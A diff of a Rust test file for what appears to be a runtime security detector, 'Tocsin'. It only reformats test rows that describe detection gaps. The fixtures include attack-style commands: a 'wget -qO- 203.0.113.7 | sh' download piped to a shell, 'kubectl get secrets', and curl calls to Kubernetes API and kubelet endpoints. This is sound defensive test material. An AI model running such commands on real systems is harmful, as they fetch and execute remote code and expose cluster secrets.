@@ -35,7 +35,12 @@ const HOLES: [Row; 13] = [
     ),
     (
         "an exemption of command lines that begin with sh -c /usr/bin",
-        || below("/usr/sbin/nginx", &["sh -c /usr/bin/id; /usr/bin/wget -qO- 203.0.113.7 | sh"]),
+        || {
+            below(
+                "/usr/sbin/nginx",
+                &["sh -c /usr/bin/id; /usr/bin/wget -qO- 203.0.113.7 | sh"],
+            )
+        },
         SHELL,
     ),
     (
@@ -63,7 +68,14 @@ const HOLES: [Row; 13] = [
     ),
     (
         "whatever is called kubectl may ask the API",
-        || vec![request("/usr/local/bin/kubectl", "kubectl get secrets", 443, "kubernetes-api")],
+        || {
+            vec![request(
+                "/usr/local/bin/kubectl",
+                "kubectl get secrets",
+                443,
+                "kubernetes-api",
+            )]
+        },
         API,
     ),
     (
@@ -73,12 +85,26 @@ const HOLES: [Row; 13] = [
     ),
     (
         "the API is one name, and a socket that was sent to an endpoint's address is not asked for",
-        || vec![request("/usr/bin/curl", "curl -k https://192.0.2.10:6443/api/v1/pods", 6443, "kubernetes-api")],
+        || {
+            vec![request(
+                "/usr/bin/curl",
+                "curl -k https://192.0.2.10:6443/api/v1/pods",
+                6443,
+                "kubernetes-api",
+            )]
+        },
         API,
     ),
     (
         "the kubelet is not asked for",
-        || vec![request("/usr/bin/curl", "curl -k https://192.0.2.10:10250/pods", 10250, "kubelet")],
+        || {
+            vec![request(
+                "/usr/bin/curl",
+                "curl -k https://192.0.2.10:10250/pods",
+                10250,
+                "kubelet",
+            )]
+        },
         API,
     ),
     (
@@ -113,7 +139,12 @@ fn the_same_is_silent_where_it_belongs() {
         ("container.image_digest", json!("sha256:5f")),
         ("process.exe_kind", Value::Null),
     ];
-    let mut operator = request("/coredns", "/coredns -conf /etc/coredns/Corefile", 443, "kubernetes-api");
+    let mut operator = request(
+        "/coredns",
+        "/coredns -conf /etc/coredns/Corefile",
+        443,
+        "kubernetes-api",
+    );
     for (name, value) in learned {
         operator[name] = value;
     }
@@ -173,7 +204,15 @@ fn replay(events: &[Value]) -> Vec<Value> {
         format!("{event}\n")
     });
     fs::write(&file, lines.collect::<String>()).unwrap();
-    let replay = ["replay", "--source", "events", "--config", "/dev/null", "--format", "ocsf"];
+    let replay = [
+        "replay",
+        "--source",
+        "events",
+        "--config",
+        "/dev/null",
+        "--format",
+        "ocsf",
+    ];
     let output = Tocsin::command().args(replay).arg(&file).output().unwrap();
     assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
     let text = String::from_utf8(output.stdout).unwrap();
